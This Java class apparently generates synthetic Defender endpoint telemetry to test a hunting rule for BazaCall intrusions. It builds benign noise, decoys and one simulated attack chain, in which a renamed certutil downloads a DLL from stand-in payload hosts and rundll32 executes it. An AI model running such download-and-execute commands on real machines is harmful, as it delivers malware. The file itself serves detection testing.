package dev.bazahunt.job.generate;

import dev.bazahunt.telemetry.DefenderTable;
import dev.bazahunt.telemetry.DefenderTimestamps;
import java.util.List;
import java.util.SplittableRandom;

/**
 * Makes the rows a fleet of Windows machines sends: everyday file writes and process starts, the
 * decoys that look like the hunt's targets, and the BazaCall chain itself. Column names and value
 * shapes follow the DeviceFileEvents and DeviceProcessEvents schema; a row is about 1.2 KB, like a
 * real one.
 *
 * <p>No row made here except those of {@link #bazaCallChain} matches the certutil rule: noise never
 * has {@code -urlcache} in an initiating command line unless certutil.exe itself runs it, which the
 * rule excludes by name. That is what makes the generator's expected counts exact.
 */
final class FleetActivity {
    static final long SECOND = 1_000_000_000L;
    static final long MINUTE = 60 * SECOND;

    private static final String OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16";
    private static final String SYSTEM32 = "C:\\Windows\\System32";
    private static final String[] PAYLOAD_HOSTS = {"pshe0pxe339.xyz", "k3vd9xq0wz.top", "ruhuf83.shop", "198.51.100.7"};

    private final SplittableRandom random;
    private long reportId = 18_000;

    FleetActivity(SplittableRandom random) {
        this.random = random;
    }

    // ---- everyday noise ------------------------------------------------------------------------

    /** A user application, an updater or the antivirus writes an ordinary file. */
    GeneratedRow benignFileWrite(Device device, long timestamp) {
        ProcessImage writer = switch (random.nextInt(5)) {
            case 0 -> image("OneDrive.exe", "C:\\Users\\" + device.userName() + "\\AppData\\Local\\Microsoft\\OneDrive",
                    timestamp, "\"OneDrive.exe\" /background");
            case 1 -> image("chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application", timestamp,
                    "\"chrome.exe\" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US");
            case 2 -> image("Teams.exe", "C:\\Users\\" + device.userName() + "\\AppData\\Local\\Microsoft\\Teams\\current",
                    timestamp, "\"Teams.exe\" --process-start-type=resume --system-initiated");
            case 3 -> image("MsMpEng.exe", "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2106.6-0",
                    timestamp, "\"MsMpEng.exe\"");
            default -> image("svchost.exe", SYSTEM32, timestamp, "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule");
        };
        String folder = "C:\\Users\\" + device.userName() + "\\AppData\\Local\\Temp";
        String name = switch (random.nextInt(4)) {
            case 0 -> "~DF" + Hex.of(random, 6).toUpperCase() + ".tmp";
            case 1 -> "Q" + (1 + random.nextInt(4)) + " forecast " + random.nextInt(100) + ".docx";
            case 2 -> Hex.of(random, 16) + ".cache";
            default -> "log-" + random.nextInt(100000) + ".etl";
        };
        return fileRow(device, timestamp, random.nextInt(3) == 0 ? "FileModified" : "FileCreated",
                folder, name, writer, explorer(timestamp));
    }

    /** Explorer, services or the task scheduler starts an ordinary program (sometimes Excel itself). */
    GeneratedRow benignProcess(Device device, long timestamp) {
        ProcessImage parent;
        ProcessImage child;
        switch (random.nextInt(5)) {
            case 0 -> {
                parent = explorer(timestamp);
                child = image("EXCEL.EXE", OFFICE, timestamp,
                        "\"" + OFFICE + "\\EXCEL.EXE\" \"C:\\Users\\" + device.userName() + "\\Documents\\Budget.xlsx\"");
            }
            case 1 -> {
                parent = explorer(timestamp);
                child = image("notepad.exe", SYSTEM32, timestamp, "\"notepad.exe\" C:\\Users\\" + device.userName()
                        + "\\Desktop\\notes.txt");
            }
            case 2 -> {
                parent = image("services.exe", SYSTEM32, timestamp, "C:\\Windows\\system32\\services.exe");
                child = image("svchost.exe", SYSTEM32, timestamp, "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s BITS");
            }
            case 3 -> {
                parent = image("svchost.exe", SYSTEM32, timestamp, "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule");
                child = image("taskhostw.exe", SYSTEM32, timestamp, "taskhostw.exe Install $(Arg0)");
            }
            default -> {
                parent = image("cmd.exe", SYSTEM32, timestamp, "cmd.exe /c C:\\Scripts\\logon.cmd");
                child = image("ipconfig.exe", SYSTEM32, timestamp, "ipconfig /all");
            }
        }
        return processRow(device, timestamp, parent, explorer(timestamp), child);
    }

    /**
     * The CryptoAPI service caching a certificate revocation list: a write under
     * {@code CryptnetUrlCache}, which contains "urlcache", by svchost with no {@code -urlcache} term.
     */
    GeneratedRow cryptnetDecoy(Device device, long timestamp) {
        ProcessImage cryptSvc = image("svchost.exe", SYSTEM32, timestamp,
                "C:\\Windows\\system32\\svchost.exe -k NetworkService -p -s CryptSvc");
        String cache = "C:\\Users\\" + device.userName() + "\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache\\"
                + (random.nextBoolean() ? "MetaData" : "Content");
        return fileRow(device, timestamp, "FileCreated", cache, Hex.of(random, 32).toUpperCase(), cryptSvc,
                image("services.exe", SYSTEM32, timestamp, "C:\\Windows\\system32\\services.exe"));
    }

    /** An administrator runs certutil under its own name: the rule's {@code !~ "certutil.exe"} drops it. */
    GeneratedRow adminCertutilDownload(Device device, long timestamp) {
        ProcessImage certutil = image("certutil.exe", SYSTEM32, timestamp,
                "certutil.exe -urlcache -split -f http://crl.contoso.local/pki/root.crl C:\\Temp\\root.crl");
        return fileRow(device, timestamp, "FileCreated", "C:\\Temp", "root.crl", certutil,
                image("cmd.exe", SYSTEM32, timestamp, "cmd.exe"));
    }

    /** Excel saving its own temporary file: mentions excel.exe, but is a file event, not a child. */
    GeneratedRow excelWritesTempFile(Device device, long timestamp) {
        return fileRow(device, timestamp, "FileCreated", "C:\\Users\\" + device.userName() + "\\AppData\\Local\\Temp",
                "~$Budget" + random.nextInt(1000) + ".xlsx", excel(device, timestamp), explorer(timestamp));
    }

    /** Excel starting its print helper or a shell: an Excel child, but no BazaCall. */
    GeneratedRow benignExcelChild(Device device, long timestamp) {
        ProcessImage child = random.nextBoolean()
                ? image("splwow64.exe", "C:\\Windows", timestamp, "C:\\Windows\\splwow64.exe 12288")
                : image("cmd.exe", SYSTEM32, timestamp, "cmd.exe /c whoami /groups");
        return processRow(device, timestamp, excel(device, timestamp), explorer(timestamp), child);
    }

    // ---- the attack ----------------------------------------------------------------------------

    /**
     * One BazaCall intrusion around {@code downloadAt}, in six rows: Excel starts cmd, which creates a
     * folder and copies certutil into it under a new name; the copy downloads the payload over http,
     * writing it and two CryptnetUrlCache entries (three rows the rule matches, one process instance);
     * Excel then starts rundll32 on the payload's GlobalOut export, minutes later.
     */
    List<GeneratedRow> bazaCallChain(Device device, long downloadAt) {
        String dir = Hex.of(random, 4);
        String folder = "C:\\Users\\Public\\" + dir;
        String payload = "tmp" + (1000 + random.nextInt(9000)) + ".dll";
        String url = "http://" + PAYLOAD_HOSTS[random.nextInt(PAYLOAD_HOSTS.length)] + "/" + Hex.of(random, 10) + ".php";
        String download = "-urlcache -split -f " + url + " " + folder + "\\" + payload;

        ProcessImage excel = excel(device, downloadAt);
        ProcessImage cmd = new ProcessImage("cmd.exe", SYSTEM32, pid(), downloadAt - 600_000_000L,
                "cmd.exe /c mkdir " + folder + " && copy " + SYSTEM32 + "\\certutil.exe " + folder + "\\" + dir
                        + ".exe && " + folder + "\\" + dir + ".exe " + download, "Cmd.Exe");
        ProcessImage renamed = new ProcessImage(dir + ".exe", folder, pid(), downloadAt - 150_000_000L,
                dir + ".exe  " + download, "CertUtil.exe");
        ProcessImage rundll32 = new ProcessImage("rundll32.exe", SYSTEM32, pid(),
                downloadAt + (60 + random.nextInt(180)) * SECOND, "rundll32.exe " + folder + "\\" + payload + ",GlobalOut",
                "RUNDLL32.EXE");
        String cache = "C:\\Users\\" + device.userName() + "\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache";
        String cacheEntry = Hex.of(random, 32).toUpperCase();
        return List.of(
                processRow(device, cmd.createdNanos() + 10_000_000L, excel, explorer(downloadAt), cmd),
                processRow(device, renamed.createdNanos() + 10_000_000L, cmd, excel, renamed),
                fileRow(device, downloadAt, "FileCreated", folder, payload, renamed, cmd),
                fileRow(device, downloadAt + 90_000_000L, "FileCreated", cache + "\\Content", cacheEntry, renamed, cmd),
                fileRow(device, downloadAt + 101_000_000L, "FileCreated", cache + "\\MetaData", cacheEntry, renamed, cmd),
                processRow(device, rundll32.createdNanos() + 2_000_000L, excel, explorer(downloadAt), rundll32));
    }

    // ---- rows ----------------------------------------------------------------------------------

    private GeneratedRow fileRow(Device device, long timestamp, String action, String folder, String fileName,
            ProcessImage initiating, ProcessImage parent) {
        GeneratedRow row = common(DefenderTable.DEVICE_FILE_EVENTS, device, timestamp, action)
                .put("FileName", fileName)
                .put("FolderPath", folder + "\\" + fileName)
                .put("SHA1", Hex.of(random, 40))
                .put("FileSize", 200L + random.nextInt(900_000))
                .put("RequestProtocol", "Local");
        initiating(row, device, initiating, parent);
        return tail(row, device, "{\"FileType\":\"" + (fileName.endsWith(".dll") ? "PortableExecutable" : "Unknown") + "\"}");
    }

    private GeneratedRow processRow(Device device, long timestamp, ProcessImage initiating, ProcessImage parent,
            ProcessImage child) {
        GeneratedRow row = common(DefenderTable.DEVICE_PROCESS_EVENTS, device, timestamp, "ProcessCreated")
                .put("FileName", child.fileName())
                .put("FolderPath", child.path())
                .put("SHA1", Hex.of(random, 40))
                .put("MD5", Hex.of(random, 32))
                .put("FileSize", 20_000L + random.nextInt(2_000_000))
                .put("ProcessVersionInfoOriginalFileName", child.originalFileName())
                .put("ProcessId", child.processId())
                .put("ProcessCommandLine", child.commandLine())
                .put("ProcessCreationTime", DefenderTimestamps.format(child.createdNanos()))
                .put("AccountDomain", "contoso")
                .put("AccountName", device.userName())
                .put("LogonId", 999_000L + random.nextInt(1000));
        initiating(row, device, initiating, parent);
        return tail(row, device, "{}");
    }

    private GeneratedRow common(DefenderTable table, Device device, long timestamp, String action) {
        return GeneratedRow.of(table, timestamp)
                .put("Timestamp", DefenderTimestamps.format(timestamp))
                .put("DeviceId", device.deviceId())
                .put("DeviceName", device.deviceName())
                .put("ActionType", action);
    }

    private void initiating(GeneratedRow row, Device device, ProcessImage process, ProcessImage parent) {
        row.put("InitiatingProcessAccountName", device.userName())
                .put("InitiatingProcessAccountSid", device.userSid())
                .put("InitiatingProcessSHA1", Hex.of(random, 40))
                .put("InitiatingProcessFileName", process.fileName())
                .put("InitiatingProcessFolderPath", process.path().toLowerCase(java.util.Locale.ROOT))
                .put("InitiatingProcessVersionInfoOriginalFileName", process.originalFileName())
                .put("InitiatingProcessId", process.processId())
                .put("InitiatingProcessCommandLine", process.commandLine())
                .put("InitiatingProcessCreationTime", DefenderTimestamps.format(process.createdNanos()))
                .put("InitiatingProcessParentId", parent.processId())
                .put("InitiatingProcessParentFileName", parent.fileName())
                .put("InitiatingProcessParentCreationTime", DefenderTimestamps.format(parent.createdNanos()));
    }

    private GeneratedRow tail(GeneratedRow row, Device device, String additionalFields) {
        reportId += 1 + random.nextInt(40);
        return row.put("ReportId", reportId)
                .put("AdditionalFields", additionalFields)
                .put("MachineGroup", device.machineGroup());
    }

    private ProcessImage excel(Device device, long around) {
        return new ProcessImage("EXCEL.EXE", OFFICE, 4000 + random.nextInt(4000), around - (2 + random.nextInt(20)) * MINUTE,
                "\"" + OFFICE + "\\EXCEL.EXE\" \"C:\\Users\\" + device.userName() + "\\Downloads\\cancel_sub_"
                        + Hex.of(random, 8).toUpperCase() + ".xlsb\"", "Excel.exe");
    }

    private ProcessImage explorer(long around) {
        return new ProcessImage("explorer.exe", "C:\\Windows", 3000 + random.nextInt(2000), around - 6 * 60 * MINUTE,
                "C:\\Windows\\Explorer.EXE", "EXPLORER.EXE");
    }

    private ProcessImage image(String fileName, String folder, long around, String commandLine) {
        return new ProcessImage(fileName, folder, pid(), around - random.nextInt(3600) * SECOND, commandLine, fileName);
    }

    private long pid() {
        return 1000 + 4L * random.nextInt(5000);
    }
}
